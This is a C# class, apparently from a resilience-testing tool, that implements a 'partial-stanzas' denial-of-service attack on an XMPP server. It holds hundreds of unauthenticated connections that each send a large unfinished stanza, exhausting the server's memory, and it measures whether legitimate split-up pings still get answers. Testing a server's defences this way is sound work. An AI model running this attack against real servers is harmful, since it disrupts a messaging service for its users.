using System.Net.Sockets;
using System.Text;

namespace Megaphone.Attacks;

/// <summary>Connections that never log in hold the parts of stanzas, as long as is allowed, until the memory for them is used up.</summary>
internal sealed class PartialStanzas : IAttack
{
    private const int Connections = 600;
    private const int Threads = 2;
    private const int StanzaBytes = 16_000;
    private static readonly TimeSpan Rest = TimeSpan.FromMilliseconds(20);

    /// <inheritdoc/>
    public string Name => "partial-stanzas";

    /// <inheritdoc/>
    public string Summary => $"{Connections} connections hold parts of stanzas, while others send theirs in two segments";

    /// <summary>With memory for fewer, and without turns for logins: who waits for one is not read.</summary>
    public Scene Scene => new() { HasPeers = true, Ecm = ["Ecm:IncompleteBytes=4M", "Ecm:Logins:AtOnce=0"] };

    /// <inheritdoc/>
    public int MinActions => 300;

    /// <inheritdoc/>
    public Task PrepareAsync(Target target, Timing timing) => Task.CompletedTask;

    /// <inheritdoc/>
    public async Task<Outcome> PlayAsync(Target target, Timing timing, CancellationToken end)
    {
        long sent = 0;
        byte[] part = Encoding.ASCII.GetBytes($"{XmppClient.Header}<a x='{new string('x', StanzaBytes)}");
        Task attack = AttackThread.RunAsync(Threads, _ =>
        {
            List<AttackSocket> sockets = [];
            do
            {
                AttackSocket.CloseEnded(sockets);
                while (sockets.Count < Connections / Threads && AttackSocket.Connect(target.Clients, Attackers.Address, end) is { } made)
                {
                    sockets.Add(made);
                    if (made.Send(part, reads: false, end) == part.Length) Interlocked.Increment(ref sent);
                }
            }
            while (!end.WaitHandle.WaitOne(Rest));
            sockets.ForEach(socket => socket.Dispose());
        });

        int pings = 0, failed = 0;
        while (!end.IsCancellationRequested)
        {
            try
            {
                using XmppClient client = await XmppClient.ConnectAsync(target.Clients);
                await client.LogInAsync();
                for (int i = 0; i < 5 && !end.IsCancellationRequested; i++, pings++) await PingInPartsAsync(client);
            }
            catch (Exception refused) when (refused is IOException or SocketException or TimeoutException)
            {
                failed++;
            }
        }

        await attack;
        string ways = target.Front == Front.Ecm
            ? $", {(await target.Ecm.MetricsAsync())["megaphone_limited_total", "limit=incomplete_bytes"]} attackers gave way"
            : "";
        return new Outcome(sent, $"{pings} stanzas in two parts answered{ways}", Harmed: failed);
    }

    private static async Task PingInPartsAsync(XmppClient client)
    {
        string id = Guid.NewGuid().ToString("N");
        await client.SendAsync($"<iq type='get' id='{id}' to='localhost'><ping ");
        await Task.Delay(Rest);
        await client.SendAsync("xmlns='urn:xmpp:ping'/></iq>");
        await client.ExpectAsync(id);
        await client.ExpectAsync(">");
    }
}
